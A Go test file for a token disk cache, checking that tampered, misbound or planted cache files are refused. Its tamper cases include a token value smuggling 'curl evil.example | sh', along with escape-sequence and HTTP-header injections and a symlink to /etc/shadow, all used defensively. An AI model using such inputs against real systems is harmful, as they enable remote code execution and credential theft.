package diskcache

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gcptoken/gcptoken"
)

// runsAsRoot reports whether the test may chown files to another user. CI
// runs the suite as root, so there the tests that need it must not skip.
func runsAsRoot(t *testing.T) bool {
	t.Helper()
	if os.Geteuid() == 0 {
		return true
	}
	if os.Getenv("CI") == "true" {
		t.Fatal("CI must run this test as root: it chowns files to another user")
	}
	return false
}

const nobody = 65534

// TestSecurityEntryBoundToKeyAndRequest: an entry copied or renamed to
// another key's file name, or found there by a key collision, is not served:
// every entry records its key, a digest of its identity and the request
// (kind, scopes, audience), and Get compares them all.
func TestSecurityEntryBoundToKeyAndRequest(t *testing.T) {
	t.Parallel()
	stored := KeyParts{Identity: "user-a", Kind: gcptoken.AccessToken, Scopes: []string{"https://www.googleapis.com/auth/cloud-platform"}}
	tests := []struct {
		name  string
		other KeyParts
		edit  func(e map[string]any) // makes the copy claim other's key
	}{
		{name: "other identity", other: KeyParts{Identity: "user-b", Kind: gcptoken.AccessToken, Scopes: stored.Scopes}},
		{name: "other scopes", other: KeyParts{Identity: "user-a", Kind: gcptoken.AccessToken, Scopes: []string{"openid"}}},
		{name: "ID token request", other: KeyParts{Identity: "user-a", Kind: gcptoken.IDToken, Audience: "https://svc.example"}},
		// A collision: the file claims the right key but was stored for
		// something else.
		{name: "key claimed, identity differs", other: KeyParts{Identity: "user-b", Kind: gcptoken.AccessToken, Scopes: stored.Scopes},
			edit: func(e map[string]any) {
				e["key"] = Key(KeyParts{Identity: "user-b", Kind: gcptoken.AccessToken, Scopes: stored.Scopes})
			}},
		{name: "key and identity claimed, audience differs", other: KeyParts{Identity: "user-a", Kind: gcptoken.AccessToken, Scopes: stored.Scopes, Audience: "x"},
			edit: func(e map[string]any) {
				e["key"] = Key(KeyParts{Identity: "user-a", Kind: gcptoken.AccessToken, Scopes: stored.Scopes, Audience: "x"})
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			c := &Cache{Dir: t.TempDir(), Now: fixedNow(t0)}
			data := entryJSON(t, stored, newToken("ya29.user-a", t0.Add(time.Hour)), tt.edit)
			if err := os.WriteFile(fileOf(c, tt.other, entrySuffix), []byte(data), 0o600); err != nil {
				t.Fatal(err)
			}
			if got, ok := c.Get(tt.other, 0); ok {
				t.Errorf("Get(%+v) served %q, stored for %+v", tt.other, got.Value, stored)
			}
		})
	}
}

// TestSecurityTamperedEntryRefused: a cache file edited to put a newline, an
// escape sequence or a second header into what gets printed or sent is not
// served, and is removed.
func TestSecurityTamperedEntryRefused(t *testing.T) {
	t.Parallel()
	key := testKey("a")
	field := func(name, v string) func(e map[string]any) {
		return func(e map[string]any) { e["token"].(map[string]any)[name] = v }
	}
	tests := []struct {
		name string
		edit func(e map[string]any)
	}{
		{"newline and a command in the value", field("value", "ya29.x\ncurl evil.example | sh")},
		{"escape sequence in the value", field("value", "ya29.x\x1b]0;owned\x07")},
		{"space in the value", field("value", "ya29.x y")},
		{"header in the type", field("type", "Bearer\r\nX-Evil: 1")},
		{"escape sequence in the scope", field("scope", "cloud-platform\x1b[2J")},
		{"newline in the audience", field("audience", "https://svc\nexport X=1")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			c := &Cache{Dir: t.TempDir(), Now: fixedNow(t0)}
			p := fileOf(c, key, entrySuffix)
			if err := os.WriteFile(p, []byte(entryJSON(t, key, newToken("ya29.x", t0.Add(time.Hour)), tt.edit)), 0o600); err != nil {
				t.Fatal(err)
			}
			if got, ok := c.Get(key, 0); ok {
				t.Errorf("Get served a tampered entry: %+v", got)
			}
			if _, err := os.Stat(p); !os.IsNotExist(err) {
				t.Errorf("the tampered entry was left in place (stat: %v)", err)
			}
		})
	}
}

// TestSecurityUntrustedCacheDir: a cache directory another local user could
// have planted or can swap — a symlink, one owned by someone else, one
// others can write, one whose parent others control — is neither read,
// written, nor chmodded; the token is fetched and the problem reported.
func TestSecurityUntrustedCacheDir(t *testing.T) {
	t.Parallel()
	skipPermsOnWindows(t)
	root := runsAsRoot(t)
	chmod := func(mode os.FileMode) func(t *testing.T, dir string) {
		return func(t *testing.T, dir string) {
			if err := os.Chmod(dir, mode); err != nil {
				t.Fatal(err)
			}
		}
	}
	tests := []struct {
		name     string
		prepare  func(t *testing.T, dir string) // dir exists, 0700, with a valid entry
		needRoot bool
		wantErr  string
	}{
		{name: "symlink to the real directory", wantErr: "symbolic link", prepare: func(t *testing.T, dir string) {
			real := filepath.Join(filepath.Dir(dir), "real")
			if err := os.Rename(dir, real); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(real, dir); err != nil {
				t.Fatal(err)
			}
		}},
		{name: "world-writable", wantErr: "writable by other users", prepare: chmod(0o777)},
		{name: "group-writable", wantErr: "writable by other users", prepare: chmod(0o770)},
		{name: "parent writable by others", wantErr: "no sticky bit", prepare: func(t *testing.T, dir string) {
			chmod(0o777)(t, filepath.Dir(dir))
		}},
		{name: "owned by another user", needRoot: true, wantErr: "owned by uid 65534", prepare: func(t *testing.T, dir string) {
			if err := os.Chown(dir, nobody, nobody); err != nil {
				t.Fatal(err)
			}
		}},
		{name: "parent owned by another user", needRoot: true, wantErr: "owned by uid 65534", prepare: func(t *testing.T, dir string) {
			if err := os.Chown(filepath.Dir(dir), nobody, nobody); err != nil {
				t.Fatal(err)
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if tt.needRoot && !root {
				t.Skip("needs root to chown to another user")
			}
			dir := filepath.Join(t.TempDir(), "parent", "gcptoken")
			c := &Cache{Dir: dir, Now: fixedNow(t0)}
			key := testKey("a")
			if err := c.Put(key, newToken("ya29.planted", t0.Add(time.Hour))); err != nil {
				t.Fatal(err)
			}
			tt.prepare(t, dir)
			before := snapshotTree(t, filepath.Dir(dir))

			if got, ok := c.Get(key, 0); ok {
				t.Errorf("Get served %q from an untrusted directory", got.Value)
			}
			if err := c.Put(key, newToken("ya29.secret", t0.Add(time.Hour))); err == nil || !strings.Contains(err.Error(), tt.wantErr) {
				t.Errorf("Put error = %v; want one saying %q", err, tt.wantErr)
			}
			var reported []error
			p := &Provider{Cache: c, Key: key, Source: &countingSource{expiry: t0.Add(time.Hour)},
				OnError: func(err error) { reported = append(reported, err) }}
			tok, err := p.Token(context.Background())
			if err != nil || tok.Value != "token-1" {
				t.Errorf("Provider.Token = %v, %v; want a fetched token", tok, err)
			}
			if len(reported) == 0 || !strings.Contains(reported[0].Error(), tt.wantErr) {
				t.Errorf("OnError got %v; want an error saying %q", reported, tt.wantErr)
			}
			if after := snapshotTree(t, filepath.Dir(dir)); after != before {
				t.Errorf("the untrusted directory changed:\nbefore %s\nafter  %s", before, after)
			}
		})
	}
}

// snapshotTree describes every file under dir (name, mode, owner, size),
// to compare before and after.
func snapshotTree(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	err := filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		fmt.Fprintf(&b, "%s %v uid=%d %dB; ", strings.TrimPrefix(p, dir), fi.Mode(), fileOwner(fi), fi.Size())
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestSecurityPlantedFilesNotFollowed: files planted in the cache directory
// (before it was private, or by a tool run as another user) are not
// followed: an entry that is a symlink to a file outside (another entry, a
// secret such as /etc/shadow), a lock that is a symlink to a path to create,
// a FIFO that would block the read, an entry owned by someone else.
func TestSecurityPlantedFilesNotFollowed(t *testing.T) {
	t.Parallel()
	skipPermsOnWindows(t)
	root := runsAsRoot(t)
	key := testKey("a")
	outside := t.TempDir()
	valid := filepath.Join(outside, "valid.json")
	if err := os.WriteFile(valid, []byte(entryJSON(t, key, newToken("ya29.planted", t0.Add(time.Hour)), nil)), 0o600); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name     string
		plant    func(t *testing.T, c *Cache) (created string) // returns a path that must not come to exist
		needRoot bool
	}{
		{name: "entry symlink to a valid entry outside", plant: func(t *testing.T, c *Cache) string {
			symlink(t, valid, fileOf(c, key, entrySuffix))
			return ""
		}},
		{name: "entry symlink to /etc/shadow", plant: func(t *testing.T, c *Cache) string {
			symlink(t, "/etc/shadow", fileOf(c, key, entrySuffix))
			return ""
		}},
		{name: "lock symlink to a new file outside", plant: func(t *testing.T, c *Cache) string {
			target := filepath.Join(t.TempDir(), "nologin")
			symlink(t, target, fileOf(c, key, lockSuffix))
			return target
		}},
		{name: "entry FIFO", plant: func(t *testing.T, c *Cache) string {
			mkfifo(t, fileOf(c, key, entrySuffix))
			return ""
		}},
		{name: "lock FIFO", plant: func(t *testing.T, c *Cache) string {
			mkfifo(t, fileOf(c, key, lockSuffix))
			return ""
		}},
		{name: "entry owned by another user", needRoot: true, plant: func(t *testing.T, c *Cache) string {
			p := fileOf(c, key, entrySuffix)
			data, _ := os.ReadFile(valid)
			if err := os.WriteFile(p, data, 0o600); err != nil {
				t.Fatal(err)
			}
			if err := os.Chown(p, nobody, nobody); err != nil {
				t.Fatal(err)
			}
			return ""
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if tt.needRoot && !root {
				t.Skip("needs root to chown to another user")
			}
			c := &Cache{Dir: t.TempDir(), Now: fixedNow(t0)}
			created := tt.plant(t, c)
			done := make(chan struct{})
			go func() {
				defer close(done)
				if got, ok := c.Get(key, 0); ok {
					t.Errorf("Get served the planted %q", got.Value)
				}
				p := &Provider{Cache: c, Key: key, Source: &countingSource{expiry: t0.Add(time.Hour)}}
				if tok, err := p.Token(context.Background()); err != nil || tok.Value != "token-1" {
					t.Errorf("Provider.Token = %v, %v; want a fetched token", tok, err)
				}
			}()
			select {
			case <-done:
			case <-time.After(10 * time.Second):
				t.Fatal("the cache blocked on the planted file")
			}
			if created != "" {
				if _, err := os.Lstat(created); err == nil {
					t.Errorf("the planted symlink was followed: %s exists", created)
				}
			}
			if data, _ := os.ReadFile(valid); strings.Contains(string(data), "token-1") {
				t.Errorf("the fetched token was written through the planted symlink")
			}
		})
	}
}

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

// TestSecurityForgetOwnerDropsEveryToken: after a credential is revoked
// (logout), every token it minted — all kinds, scopes, audiences, and those
// of service accounts it impersonated — is dropped; other credentials'
// tokens stay.
func TestSecurityForgetOwnerDropsEveryToken(t *testing.T) {
	t.Parallel()
	c := &Cache{Dir: t.TempDir(), Now: fixedNow(t0)}
	const user, other = "authorized_user|client|alice|fp:1", "service_account|robot"
	mine := []KeyParts{
		{Identity: user, Kind: gcptoken.AccessToken, Scopes: []string{"a"}},
		{Identity: user, Kind: gcptoken.AccessToken, Scopes: []string{"b"}},
		{Identity: user, Kind: gcptoken.IDToken, Audience: "https://svc"},
		{Identity: "impersonated|sa@p|" + user, Owner: user, Kind: gcptoken.AccessToken},
	}
	theirs := []KeyParts{
		{Identity: other, Kind: gcptoken.AccessToken, Scopes: []string{"a"}},
		{Identity: "impersonated|sa@p|" + other, Owner: other, Kind: gcptoken.AccessToken},
	}
	for _, p := range append(append([]KeyParts(nil), mine...), theirs...) {
		tok := newToken("ya29.v", t0.Add(time.Hour))
		tok.Kind = p.Kind
		if err := c.Put(p, tok); err != nil {
			t.Fatal(err)
		}
	}
	n, err := c.ForgetOwner(user)
	if err != nil || n != len(mine) {
		t.Errorf("ForgetOwner = %d, %v; want %d, nil", n, err, len(mine))
	}
	for _, p := range mine {
		if _, ok := c.Get(p, 0); ok {
			t.Errorf("Get(%+v) hit after ForgetOwner", p)
		}
	}
	for _, p := range theirs {
		if _, ok := c.Get(p, 0); !ok {
			t.Errorf("Get(%+v) missed: ForgetOwner dropped another owner's token", p)
		}
	}
}

// TestForget: erase drops the entry only if it holds the refused token (or
// when no token is given).
func TestForget(t *testing.T) {
	t.Parallel()
	key := testKey("a")
	tests := []struct {
		name        string
		value       string
		wantRemoved bool
	}{
		{name: "the cached token", value: "ya29.cached", wantRemoved: true},
		{name: "any token", value: "", wantRemoved: true},
		{name: "another token", value: "ya29.older"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			c := &Cache{Dir: t.TempDir(), Now: fixedNow(t0)}
			if err := c.Put(key, newToken("ya29.cached", t0.Add(time.Hour))); err != nil {
				t.Fatal(err)
			}
			removed, err := c.Forget(key, tt.value)
			if err != nil || removed != tt.wantRemoved {
				t.Errorf("Forget(%q) = %v, %v; want %v, nil", tt.value, removed, err, tt.wantRemoved)
			}
			if _, ok := c.Get(key, 0); ok == tt.wantRemoved {
				t.Errorf("Get after Forget hit = %v; want %v", ok, !tt.wantRemoved)
			}
		})
	}
	missing := &Cache{Dir: filepath.Join(t.TempDir(), "absent")}
	if removed, err := missing.Forget(key, ""); removed || err != nil {
		t.Errorf("Forget in a missing directory = %v, %v; want false, nil", removed, err)
	}
	if _, err := os.Stat(missing.Dir); !os.IsNotExist(err) {
		t.Errorf("Forget created the cache directory")
	}
}

// TestPruneStaleEntries: entries written long ago go when a new token is
// fetched; recent ones and files that are not entries stay.
func TestPruneStaleEntries(t *testing.T) {
	t.Parallel()
	now := time.Now()
	c := &Cache{Dir: t.TempDir(), Now: func() time.Time { return now }}
	old, recent := testKey("old"), testKey("recent")
	for _, k := range []KeyParts{old, recent} {
		if err := c.Put(k, newToken("ya29.v", now.Add(time.Hour))); err != nil {
			t.Fatal(err)
		}
	}
	notOurs := filepath.Join(c.Dir, "notes.json")
	if err := os.WriteFile(notOurs, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	long := now.Add(-2 * staleAfter)
	for _, p := range []string{fileOf(c, old, entrySuffix), notOurs} {
		if err := os.Chtimes(p, long, long); err != nil {
			t.Fatal(err)
		}
	}
	p := &Provider{Cache: c, Key: testKey("new"), Source: &countingSource{expiry: now.Add(time.Hour)}}
	if _, err := p.Token(context.Background()); err != nil {
		t.Fatal(err)
	}
	for path, want := range map[string]bool{fileOf(c, old, entrySuffix): false, fileOf(c, recent, entrySuffix): true, notOurs: true} {
		if _, err := os.Stat(path); (err == nil) != want {
			t.Errorf("%s exists = %v; want %v", filepath.Base(path), err == nil, want)
		}
	}
}
